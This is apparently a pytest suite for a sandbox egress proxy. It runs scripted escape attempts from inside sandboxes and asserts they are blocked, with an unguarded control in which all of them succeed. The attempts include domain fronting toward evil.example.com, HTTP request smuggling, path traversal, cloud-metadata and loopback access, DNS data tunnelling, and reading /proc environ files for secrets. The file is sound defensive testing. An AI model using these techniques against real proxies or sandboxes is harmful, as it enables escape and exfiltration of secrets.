"""Attacks on the one way out, from inside a real sandbox: none succeeds, and each would without it.

The control runs the same scripts in a sandbox whose exit carries every flow to a canary: there all
of them must succeed. Datagrams have no way into an exit at all; their control is the loopback
inside the sandbox. All of it in each tier: what carries flows to the exit differs.
"""

import asyncio
import base64
import ssl
from collections.abc import AsyncIterator, Mapping
from contextlib import asynccontextmanager, suppress
from pathlib import Path

import pytest

from attacks.forks import Forks
from attacks.world import TIERS
from egress_world import HOST, SECRET, Seen, World, grant, read_body, world
from handiwork.model.injection import HeaderInjection
from handiwork.model.sandbox import SandboxExit, SandboxSpec

pytestmark = [
    pytest.mark.root,
    pytest.mark.parametrize(
        "tier",
        [
            pytest.param(name, marks=[] if tier.shares_kernel else [pytest.mark.slow, *tier.marks])
            for name, tier in TIERS.items()
        ],
    ),
]
CANARY = b"canary"
AT_ONCE = {"namespace": 6, "gvisor": 6, "microvm": 2}
"""Attacks; an emulated processor has a second's work with one handshake."""
REPLY = b"HTTP/1.1 200 OK\r\ncontent-length: 6\r\nconnection: close\r\n\r\n" + CANARY

PRELUDE = f"""
import socket, ssl, struct, sys, threading
HOST = {HOST!r}
def read(s):
    s.settimeout(3); got = b""
    try:
        while piece := s.recv(65536): got += piece
    except OSError: pass
    sys.stdout.buffer.write(got)
def tcp(where, port, data):
    s = socket.create_connection((where, port), 3); s.sendall(data); return s
def tls(where, port, name, data):
    c = ssl.create_default_context(); c.check_hostname = False; c.verify_mode = ssl.CERT_NONE
    s = c.wrap_socket(socket.create_connection((where, port), 3), server_hostname=name)
    s.sendall(data); return s
def get(target, host=HOST, method="GET", extra=""):
    return (f"{{method}} {{target}} HTTP/1.1\\r\\nHost: {{host}}\\r\\n{{extra}}"
            "Connection: close\\r\\n\\r\\n").encode()
def ask(name, kind=1):
    labels = b"".join(bytes([len(p)]) + p.encode() for p in name.split("."))
    return (b"\\x12\\x34\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0" + labels + b"\\0"
            + struct.pack("!2H", kind, 1))
def resolved(reply):
    if reply[3] & 15 == 0 and reply[7]: print("canary")
def datagram(where, port, data):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(1)
    s.connect((where, port)); s.send(data); return s.recv(4096)
IP = "93.184.216.34"
EVIL = "evil.example.com"
"""

FLOWS = {
    "a denied name in TLS": "read(tls(IP, 443, EVIL, get('/', EVIL)))",
    "a denied name by the name service": "read(tls(EVIL, 443, EVIL, get('/', EVIL)))",
    "a denied name in clear": "read(tcp(IP, 80, get('/', EVIL)))",
    "TLS without a name": "read(tls(IP, 443, None, get('/', EVIL)))",
    "TLS with an address for a name": "read(tls(IP, 443, IP, get('/', IP)))",
    "fronting": "read(tls(IP, 443, HOST, get('/ok', EVIL)))",
    "fronting the other way": "read(tls(IP, 443, EVIL, get('/ok', HOST)))",
    "a sibling of the allowed name": "read(tls(IP, 443, 'x.' + HOST, get('/', 'x.' + HOST)))",
    "the parent of the allowed name": "read(tls(IP, 443, 'example.org', get('/', 'example.org')))",
    "a trailing dot": "read(tls(IP, 443, HOST, get('/ok', EVIL + '.')))",
    "user information": "read(tls(IP, 443, HOST, get('/ok', HOST + '@' + EVIL)))",
    "an absolute target": "read(tls(IP, 443, HOST, get('https://' + EVIL + '/ok')))",
    "an absolute target in clear": "read(tcp(IP, 80, get('http://' + EVIL + '/', EVIL)))",
    "clear where TLS is granted": "read(tcp(IP, 80, get('/ok')))",
    "clear on the port of TLS": "read(tcp(IP, 443, get('/ok')))",
    "two hosts": "read(tls(IP, 443, HOST, get('/ok', extra='Host: ' + EVIL + '\\r\\n')))",
    "a denied path": "read(tls(IP, 443, HOST, get('/admin')))",
    "a path with dots": "read(tls(IP, 443, HOST, get('/ok/../admin')))",
    "a path with encoded dots": "read(tls(IP, 443, HOST, get('/ok/%2e%2e/admin')))",
    "a path with an encoded slash": "read(tls(IP, 443, HOST, get('/ok/..%2fadmin')))",
    "a path with a backslash": "read(tls(IP, 443, HOST, get('/ok/..%5cadmin')))",
    "a path with two slashes": "read(tls(IP, 443, HOST, get('//admin')))",
    "a denied method": "read(tls(IP, 443, HOST, get('/ok', method='DELETE')))",
    "TRACE": "read(tls(IP, 443, HOST, get('/ok', method='TRACE')))",
    "CONNECT": "read(tls(IP, 443, HOST, get(EVIL + ':443', method='CONNECT')))",
    "an upgrade on a denied path": "read(tls(IP, 443, HOST, get('/admin',"
    " extra='Connection: upgrade\\r\\nUpgrade: websocket\\r\\n')))",
    "length against chunks": "read(tls(IP, 443, HOST, b'GET /ok HTTP/1.1\\r\\nHost: ' + "
    "HOST.encode() + b'\\r\\nContent-Length: 5\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n"
    "0\\r\\n\\r\\n' + get('/admin')))",
    "a doubtful coding": "read(tls(IP, 443, HOST, b'GET /ok HTTP/1.1\\r\\nHost: ' + "
    "HOST.encode() + b'\\r\\nTransfer-Encoding: xchunked\\r\\n\\r\\n0\\r\\n\\r\\n' + get('/admin')))",
    "a bare line feed": "read(tls(IP, 443, HOST, b'GET /ok HTTP/1.1\\nHost: ' + HOST.encode() +"
    " b'\\n\\n' + get('/admin')))",
    "a request behind a request": "read(tls(IP, 443, HOST, b'GET /ok HTTP/1.1\\r\\nHost: ' + "
    "HOST.encode() + b'\\r\\n\\r\\n' + get('/admin')))",
    "a request behind an upgrade": "read(tls(IP, 443, HOST, b'GET /ok HTTP/1.1\\r\\nHost: ' + "
    "HOST.encode() + b'\\r\\nConnection: upgrade\\r\\nUpgrade: websocket\\r\\n\\r\\n' + get('/admin')))",
    "another port in the Host": "read(tls(IP, 443, HOST, get('/ok', HOST + ':8443')))",
    "another port": "read(tls(IP, 8443, HOST, get('/ok', HOST + ':8443')))",
    "SSH": "read(tcp(IP, 22, b'SSH-2.0-x\\r\\n'))",
    "SMTP": "read(tcp(IP, 25, b'EHLO x\\r\\n'))",
    "PostgreSQL": "read(tcp(IP, 5432, b'\\0\\0\\0\\x08\\x04\\xd2\\x16\\x2f'))",
    "TLS to a name server": "read(tls(IP, 853, 'dns.example.com', ask(EVIL)))",
    "raw bytes on the port of TLS": "read(tcp(IP, 443, b'\\0\\1\\2 not a protocol'))",
    "a preamble of the guest's own": "read(tcp(IP, 443, b'HWX1\\1\\4' + bytes(18)))",
    "metadata": "read(tcp('169.254.169.254', 80, get('/', '169.254.169.254')))",
    "metadata behind a public address": "read(tcp(IP, 80, get('/', '169.254.169.254')))",
    "the control plane": "read(tcp(IP, 80, get('/api/sandboxes', '127.0.0.1:8787')))",
    "loopback as a number": "read(tcp(IP, 80, get('/', '2130706433')))",
    "a private address": "read(tls('10.1.2.3', 443, None, get('/', '10.1.2.3')))",
    "IPv6": "read(tls('2606:2800:220:1::1', 443, EVIL, get('/', EVIL)))",
    "mapped IPv6": "read(tcp(IP, 80, get('/', '[::ffff:127.0.0.1]')))",
    "a question for a denied name": "resolved(datagram('8.8.8.8', 53, ask(EVIL)))",
    "data in a question": "resolved(datagram('8.8.8.8', 53, ask('c2VjcmV0.' + EVIL)))",
    "a TXT tunnel": "resolved(datagram('1.1.1.1', 53, ask('x.tunnel.example.com', 16)))",
    "a question over TCP": "s = tcp('8.8.8.8', 53, struct.pack('!H', len(ask(EVIL))) + ask(EVIL));"
    " s.settimeout(2); resolved(s.recv(4096)[2:])",
}

DATAGRAMS = {
    "QUIC": "443",
    "time": "123",
    "WireGuard": "51820",
    "multicast names": "5353",
}


def canary_of(authority_context: ssl.SSLContext):
    """Return servers that answer anything with the canary: one in TLS, one in clear."""

    async def answer(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        with suppress(OSError, asyncio.IncompleteReadError):
            if await reader.read(65536):
                writer.write(REPLY)
                await writer.drain()
        writer.close()

    return (
        asyncio.start_server(answer, "127.0.0.1", 0, ssl=authority_context),
        asyncio.start_server(answer, "127.0.0.1", 0),
    )


async def pipe(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    with suppress(OSError):
        while data := await reader.read(65536):
            writer.write(data)
            await writer.drain()
        writer.close()


@asynccontextmanager
async def open_exit(path: Path, made: World) -> AsyncIterator[None]:
    """An exit without a boundary: every flow reaches the canary, every name is answered."""
    secure, clear = [await server for server in canary_of(made.authority.server(HOST))]

    async def carry(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        with suppress(OSError, asyncio.IncompleteReadError):
            head = await reader.readexactly(24)
            writer.write(b"\0")
            if head[4] == 2:
                while True:
                    length = int.from_bytes(await reader.readexactly(2), "big")
                    query = await reader.readexactly(length)
                    record = b"\xc0\x0c\0\1\0\1\0\0\0\x3c\0\4\x5d\xb8\xd8\x22"
                    reply = query[:2] + b"\x81\x80\0\1\0\1\0\0\0\0" + query[12:] + record
                    writer.write(len(reply).to_bytes(2, "big") + reply)
            first = await reader.read(65536)
            to = (secure if first[:1] == b"\x16" else clear).sockets[0].getsockname()
            there, here = await asyncio.open_connection(*to[:2])
            here.write(first)
            async with asyncio.TaskGroup() as group:
                group.create_task(pipe(reader, here))
                group.create_task(pipe(there, writer))
        writer.close()

    server = await asyncio.start_unix_server(carry, path)
    path.chmod(0o666)
    async with server, secure, clear:
        yield


@asynccontextmanager
async def sandbox(
    tier: str, tmp_path: Path, path: str, certificate: str
) -> AsyncIterator[list[Forks]]:
    """Yield what makes attacks in a sandbox with that way out, as many at once."""
    driver = TIERS[tier].make(tmp_path / "data")
    way = SandboxExit(socket_path=path, ca_certificate=certificate)
    box = await driver.create(SandboxSpec(id="sbx_attacksaaa", exit=way))
    try:
        yield [await Forks.start(box, PRELUDE, merge_stderr=False) for _ in range(AT_ONCE[tier])]
    finally:
        await driver.destroy("sbx_attacksaaa")


async def run(box: list[Forks], script: str) -> bytes:
    said = await box[0].run(script)
    assert said is not None, script
    return said


async def run_all(box: list[Forks], scripts: Mapping[str, str]) -> dict[str, bytes]:
    """Make attacks, some at once: most of them wait for an answer that does not come."""
    waiting, told = list(scripts.items()), {}

    async def work(forks: Forks) -> None:
        while waiting:
            name, script = waiting.pop()
            told[name] = await run([forks], script)

    async with asyncio.TaskGroup() as group:
        for forks in box:
            group.create_task(work(forks))
    return told


async def respond(seen: Seen, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """Answer the canary to whatever the policy does not grant, else what came as authorization."""
    await read_body(seen, reader)
    granted = (
        seen.method == "GET" and seen.target.startswith("/ok") and seen.values("host") == [HOST]
    )
    value = "".join(seen.values("authorization")).encode()
    body = b"fine " + value + b" " + base64.b64encode(value) if granted else CANARY
    writer.write(b"HTTP/1.1 200 OK\r\ncontent-length: %d\r\n\r\n" % len(body) + body)
    await writer.drain()


async def guarded(here: World):
    here.upstream.respond = respond
    inject = (HeaderInjection(header="authorization", value="Bearer ${secret:key}"),)
    service = here.service(inject=inject, methods=("GET",), paths=("/ok", "/ok/*"))
    return await here.open(grant(service, secrets=(await here.sealed(),)))


@pytest.mark.timeout(300)
async def test_no_attack_gets_out(tier: str, tmp_path: Path):
    hosts = {"evil.example.com": ("127.0.0.1",)}
    async with world(tmp_path, first_byte_seconds=2.0, hosts=hosts) as here:
        way = await guarded(here)
        async with sandbox(tier, tmp_path, way.path, way.ca_certificate) as box:
            assert b"fine Bearer ***" in await run(box, "read(tls(HOST, 443, HOST, get('/ok')))")
            told = await run_all(box, FLOWS)
            assert len(told) == len(FLOWS)
            leaks = {
                name: said
                for name, said in told.items()
                if CANARY in said or SECRET.encode() in said
            }
            assert leaks == {}
            passed = {(seen.method, seen.target) for seen in here.upstream.seen}
            assert passed == {("GET", "/ok")}


@pytest.mark.timeout(300)
async def test_every_attack_gets_out_without_the_boundary(tier: str, tmp_path: Path):
    made = World(tmp_path)
    path = tmp_path / "open.s"
    async with open_exit(path, made), sandbox(tier, tmp_path, str(path), made.authority.pem) as box:
        told = await run_all(box, FLOWS)
        assert [name for name in FLOWS if CANARY not in told[name]] == []


async def test_datagrams_have_no_way_out(tier: str, tmp_path: Path):
    made = World(tmp_path)
    path = tmp_path / "open.s"
    server = (
        "r = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); r.bind(('127.0.0.1', {port}))\n"
        "def serve():\n    d, a = r.recvfrom(99); r.sendto(b'canary', a)\n"
        "threading.Thread(target=serve, daemon=True).start()\n"
    )
    async with open_exit(path, made), sandbox(tier, tmp_path, str(path), made.authority.pem) as box:
        for name, port in DATAGRAMS.items():
            out = f"print(datagram(IP, {port}, b'x'))"
            home = server.format(port=port) + f"print(datagram('127.0.0.1', {port}, b'x'))"
            assert CANARY not in await run(box, out), name
            assert CANARY in await run(box, home), name


@pytest.mark.timeout(120)
async def test_nothing_leaves_once_the_proxy_is_killed(tier: str, tmp_path: Path):
    async with world(tmp_path) as here:
        way = await guarded(here)
        async with sandbox(tier, tmp_path, way.path, way.ca_certificate) as box:
            fine = "read(tls(IP, 443, HOST, get('/ok')))"
            assert b"fine" in await run(box, fine)
            here.processes[0].kill()
            await here.processes[0].wait()
            seen = len(here.upstream.seen)
            some = dict(list(FLOWS.items())[::5])
            told = await run_all(box, {"what was fine": fine, **some})
            assert set(told.values()) == {b""}
            assert len(here.upstream.seen) == seen
            reply = "print(datagram('8.8.8.8', 53, ask(HOST))[3] & 15)"
            assert await run(box, reply) == b"2\n"


async def test_the_secret_is_nowhere_inside(tier: str, tmp_path: Path):
    async with world(tmp_path) as here:
        way = await guarded(here)
        async with sandbox(tier, tmp_path, way.path, way.ca_certificate) as box:
            told = await run(box, "read(tls(HOST, 443, HOST, get('/ok')))")
            assert here.upstream.seen[0].values("authorization") == [f"Bearer {SECRET}"]
            encoded = base64.b64encode(f"Bearer {SECRET}".encode())
            assert b"fine Bearer **" in told
            assert SECRET.encode() not in told
            assert encoded not in told
            assert encoded[16:-6] not in told
            stripped = (
                "Connection: authorization\\r\\nRange: bytes=0-20\\r\\nAuthorization: mine\\r\\n"
            )
            told = await run(box, f"read(tls(IP, 443, HOST, get('/ok', extra='{stripped}')))")
            assert b"fine Bearer **" in told
            assert here.upstream.seen[1].values("range") == []
            search = (
                "import os\nfor d in ('/proc/self/environ', '/proc/1/environ'):\n"
                "    try: print(open(d).read())\n    except OSError: pass\nprint(dict(os.environ))"
            )
            assert SECRET.encode() not in await run(box, search)
